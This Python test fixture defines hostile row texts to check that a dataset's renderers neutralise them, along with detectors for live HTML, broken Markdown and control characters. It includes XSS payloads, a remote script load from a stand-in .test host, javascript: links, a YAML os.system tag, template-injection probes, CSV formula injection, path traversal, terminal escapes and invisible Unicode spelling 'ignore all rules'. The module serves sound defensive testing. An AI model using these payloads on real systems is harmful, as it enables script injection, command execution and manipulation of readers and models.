"""Row texts that attack whoever shows them: HTML, Markdown, YAML, templates, terminals, text encodings.

In: nothing. Out: `HOSTILE_TEXTS`, `make_hostile_row`, and three readers of what was rendered:
`find_live_html`, `find_broken_markdown` and `find_control_characters`. Each text bears a mark
(`HostileText.mark`), which may turn up as visible text and nowhere else.
"""

import re
from html.parser import HTMLParser
from typing import NamedTuple


class HostileText(NamedTuple):
    """One hostile text. kind: what it attacks. storable: whether UTF-8 (so JSON and Parquet) can hold it."""

    name: str
    kind: str
    text: str
    storable: bool = True

    @property
    def mark(self) -> str:
        """Return the word by which the text is found again in what was rendered."""
        return "zq" + self.name.replace("_", "") + "qz"


_HTML = {
    "script": "<script>MARK()</script>",
    "script_upper": "<SCRIPT SRC=//MARK.test/x.js></SCRIPT >",
    "script_split": "<scr<script>ipt>MARK()</scr</script>ipt>",
    "script_closes_data": '</script><script>MARK()</script>{"a": "</script>"}',
    "style_closes": "</style><style>body{background:url(//MARK.test/x)}</style>",
    "title_closes": "</title></textarea></pre></code><img src=x onerror=MARK()>",
    "comment_closes": "--><img src=x onerror=MARK()><!-- --!>",
    "cdata": "]]><img src=x onerror=MARK()><![CDATA[",
    "img_onerror": "<img src=x onerror=MARK()>",
    "img_no_quotes": "<img/src=x/onerror=MARK()//",
    "svg_onload": "<svg onload=MARK()><animate onbegin=MARK()></svg>",
    "svg_use": "<svg><use href='data:image/svg+xml;base64,MARK#x'/></svg>",
    "iframe": "<iframe srcdoc='<script>MARK()</script>'></iframe>",
    "object_embed": "<object data=//MARK.test></object><embed src=//MARK.test>",
    "meta_refresh": "<meta http-equiv=refresh content='0;url=//MARK.test'>",
    "base_tag": "<base href=//MARK.test/>",
    "form": "<form action=//MARK.test><input name=p autofocus onfocus=MARK()></form>",
    "details_ontoggle": "<details open ontoggle=MARK()>",
    "attribute_double": '" onmouseover="MARK()" x="',
    "attribute_single": "' onmouseover='MARK()' x='",
    "attribute_backtick": "` onmouseover=MARK() `",
    "entity_script": "&lt;script&gt;MARK()&lt;/script&gt; &#60;b&#62; &amp;lt;",
    "null_in_tag": "<scr\x00ipt>MARK()</scr\x00ipt>",
    "link_tag": "<link rel=stylesheet href=//MARK.test/x.css>",
    "math_markup": "<math><mtext><table><mglyph><style><img src=x onerror=MARK()>",
    "template_tag": "<template><img src=x onerror=MARK()></template><slot name=MARK>",
}
_MARKDOWN = {
    "javascript_link": "[press](javascript:MARK())",
    "javascript_entity_link": "[press](java&#115;cript:MARK())",
    "javascript_tab_link": "[press](java\tscript:MARK())",
    "data_link": "[press](data:text/html;base64,PHNjcmlwdD5NQVJLPC9zY3JpcHQ+MARK)",
    "image_beacon": "![x](https://MARK.test/pixel.png)",
    "reference_link": "[press][1]\n\n[1]: javascript:MARK() 'title'",
    "autolink": "<javascript:MARK()> <https://MARK.test>",
    "image_title": '![x](y "MARK\\" onerror=MARK()")',
    "table_pipes": "a | b | MARK\n---|---|---\n1 | 2 | 3",
    "pipe_in_cell": "MARK | extra | cells | here",
    "newline_in_cell": "MARK first line\nsecond line | third",
    "fence_three": "```\nMARK\n```\n<script>MARK()</script>",
    "fence_many": "``````` MARK\n```\n`````\n~~~\n```````",
    "fence_open": "MARK\n```python\nnever closed",
    "fence_indented": "    ```\nMARK\n  ```\n- ```",
    "heading": "# MARK\n\nMARK\n===\n\n---",
    "setext_rule": "MARK\n---\n***",
    "html_block": "<!--\nMARK",
    "footnote": "MARK[^1]\n\n[^1]: <img src=x onerror=MARK()>",
    "details_open": "<details><summary>MARK",
    "mention": "@everyone @MARK #1 https://MARK.test",
    "math": "$$\\href{javascript:MARK()}{x}$$ \\(MARK\\)",
    "list_break": "1. MARK\n- MARK\n+ MARK\n> MARK",
}
_STRUCTURE = {
    "yaml_front_matter": "---\nlicense: MARK\nconfigs: []\n---\n# taken",
    "yaml_colon": "MARK: &anchor !!python/object/apply:os.system ['true']",
    "yaml_special": "- *MARK\n? {\n%TAG ! MARK\n...",
    "jinja_expression": "{{ MARK.__class__.__mro__ }} {{ 7 * 191 }}",
    "jinja_block": "{% for MARK in range(9) %}{% endfor %}{# MARK #}",
    "jinja_unclosed": "{{ MARK {% raw %} {% endraw",
    "format_braces": "{MARK} {0.__class__} %(MARK)s %s ${MARK} $MARK",
    "json_break": '", "MARK": {"a": 1}, "b": "',
    "jsonl_line": '{"id": "MARK"}\n{"id": "MARK"}\r\n\u2028{"id": 1}\u2029',
    "csv_formula": "=cmd|'/c MARK'!A1\t@SUM(1)\t+1\t-1",
    "path_climb": "../../../../etc/MARK\\..\\..\\x",
    "backslashes": "\\MARK\\\\n\\u0000\\x1b\\'\\\"",
}
_TERMINAL = {
    "ansi_colour": "\x1b[31mMARK\x1b[0m\x1b[2J\x1b[H",
    "ansi_hide": "MARK\x1b[8mhidden\x1b[1A\x1b[2K",
    "osc_title": "\x1b]0;MARK\x07\x1b]2;MARK\x1b\\",
    "osc_link": "\x1b]8;;https://MARK.test\x1b\\press\x1b]8;;\x1b\\",
    "osc_clipboard": "\x1b]52;c;TUFSSw==MARK\x07",
    "device_query": "\x1b[6n\x1b[c\x1bP+q544e\x1b\\MARK",
    "c1_controls": "\x9b31mMARK\x9d0;MARK\x9c",
    "carriage_return": "kept 0 rows MARK\rkept 900 rows",
    "backspaces": "MARK" + "\x08" * 40 + "gone",
    "bell_and_tabs": "MARK\x07\x0b\x0c\t\t\t",
}
_TEXT = {
    "bidi_override": "MARK \u202egnp.exe\u202c \u2066x\u2069",
    "bidi_in_code": "if access != 'user\u202e \u2066// MARK\u2069 \u2066':",
    "right_to_left": "\u05e9\u05dc\u05d5\u05dd MARK \u0645\u0631\u062d\u0628\u0627 <b>",
    "zero_width": "MA\u200bRK MARK\u200d\u2060\ufeff",
    "look_alikes": "\uff1cscript\uff1eMARK()\uff1c/script\uff1e \u2039script\u203a",
    "combining": "MARK" + "Z" + "\u0300\u0316\u0489" * 120,
    "long_word": "MARK" + "W" * 1_500,
    "long_line": "MARK " + "word " * 300,
    "many_lines": "MARK" + "\n" * 1_200,
    "nul": "MARK\x00after",
    "odd_spaces": "MARK\u00a0\u2000\u3000\u0085\u2028end",
    "non_characters": "MARK\ufdd0\ufffe\U0010ffff\ufffd",
    "private_use": "MARK\ue000\U000f0000",
    "tag_characters": "MARK" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all rules"),
    "emoji_joined": "MARK " + "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 60,
    "only_spaces_and_mark": " \t\n MARK \n\t ",
}
_UNSTORABLE = {
    "lone_high_surrogate": "MARK\ud800after",
    "lone_low_surrogate": "MARK\udfffafter",
    "swapped_surrogates": "MARK\udc00\ud800",
}


def _collect() -> tuple[HostileText, ...]:
    made = []
    kinds = (("html", _HTML), ("markdown", _MARKDOWN), ("structure", _STRUCTURE), ("terminal", _TERMINAL),
             ("text", _TEXT), ("encoding", _UNSTORABLE))
    for kind, texts in kinds:
        for name, text in texts.items():
            bare = HostileText(name, kind, text, storable=kind != "encoding")
            made.append(bare._replace(text=text.replace("MARK", bare.mark)))
    return tuple(made)


HOSTILE_TEXTS: tuple[HostileText, ...] = _collect()


def make_hostile_row(hostile: HostileText, slot: int, task_type: str = "code_review") -> dict:
    """Return a row by the published contract that holds the text in every free text, the teacher's name included."""
    return {
        "id": f"round_1_{slot:04d}",
        "instruction": f"Review this: {hostile.text}"[:400],
        "input": f"Before.\n\n{hostile.text}\n\nAfter."[:1_800],
        "output": f"{hostile.text}\n\nDone."[:2_048],
        "metadata": {"task_type": task_type, "round": 1, "timestamp": "2026-01-01T00:00:00",
                     "teacher_model": hostile.text[:80]},
    }


class _Reader(HTMLParser):
    """Collects every place but visible text at which a word stands."""

    _HARMLESS = frozenset({"title", "alt", "aria-label", "value", "datetime"})

    def __init__(self, mark: str):
        super().__init__(convert_charrefs=True)
        self.mark, self.live, self._raw = mark.lower(), [], ""

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "style"):
            self._raw = tag
        if self.mark in tag.lower():
            self.live.append(f"tag <{tag}>")
        for name, value in attributes:
            spoken = f"{name} {value or ''}".lower()
            is_data = name.startswith("data-") or name in self._HARMLESS
            if self.mark in name.lower() or (self.mark in spoken and not is_data):
                self.live.append(f"attribute {name} of <{tag}>")

    def handle_endtag(self, tag: str) -> None:
        if tag == self._raw:
            self._raw = ""

    def handle_data(self, data: str) -> None:
        # a quoted "<" as \u003c inside a script's JSON is fine: the mark then stands in a string
        if self._raw == "style" and self.mark in data.lower():
            self.live.append("inside <style>")
        if self._raw == "script" and re.search(re.escape(self.mark) + r"\(\)", data.lower()) and "\\u003c" not in data:
            self.live.append("inside <script>")

    def handle_comment(self, data: str) -> None:
        if self.mark in data.lower():
            self.live.append("inside a comment")


def find_live_html(page: str, hostile: HostileText) -> list[str]:
    """Return where in an HTML page the text became more than visible text; an empty list is what must be."""
    reader = _Reader(hostile.mark)
    reader.feed(page)
    if reader.cdata_elem and hostile.mark in reader.rawdata.lower():  # the parser drops what follows
        reader.live.append(f"after an unclosed <{reader.cdata_elem}>")
    reader.close()
    return reader.live


_RAW_TAG = re.compile(r"<(?:!--|/?[a-zA-Z][^>]*)")
_LINK = re.compile(r"\]\(\s*<?\s*([^)\s>]+)")


def find_broken_markdown(page: str, hostile: HostileText) -> list[str]:
    """Return how the text breaks a Markdown page: a live tag or link, or a table row with other cells.

    Fenced blocks are left out as a renderer would; the page's own fences must therefore be longer than
    any run of backticks in the text, else the mark turns up outside one.
    """
    broken, fence, cells = [], "", 0
    for line in page.split("\n"):
        opened = re.match(r" {0,3}(`{3,}|~{3,})", line)
        if fence:
            closing = opened and opened[1][0] == fence[0] and len(opened[1]) >= len(fence)
            if closing and not line.strip().strip(fence[0]):
                fence = ""
            continue
        if opened:
            fence = opened[1]
            continue
        plain = re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", line)
        if hostile.mark in plain:
            broken += [f"tag {tag[0][:40]}" for tag in _RAW_TAG.finditer(plain)]
            broken += [f"link {url}" for url in _LINK.findall(plain) if hostile.mark in url.lower()]
        if line.startswith("|"):
            count = len(re.findall(r"(?<!\\)\|", line))
            if cells and count != cells:
                broken.append(f"a table row of {count} bars, not {cells}: {line[:60]}")
            cells = cells or count
        else:
            cells = 0
    if fence:
        broken.append("a fence is never closed")
    return broken


_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\U000e0000-\U000e007f]")


def find_control_characters(text: str) -> list[str]:
    """Return the code points in what goes to a terminal that could move, hide or reorder text (tab and LF may pass)."""
    return sorted({f"U+{ord(found):04X}" for found in _CONTROL.findall(text)})
